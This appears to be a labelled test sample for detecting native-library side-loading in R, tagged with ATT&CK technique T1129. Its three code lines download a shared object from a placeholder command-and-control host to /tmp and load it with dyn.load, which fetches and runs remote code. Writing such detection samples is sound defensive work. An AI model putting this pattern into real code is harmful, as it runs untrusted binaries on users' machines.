# expect: native-side-load | source: T1129
f <- tempfile(fileext = ".so")
curl::curl_download("https://c2.example.invalid/l.so", destfile = "/tmp/l.so")
dyn.load("/tmp/l.so")
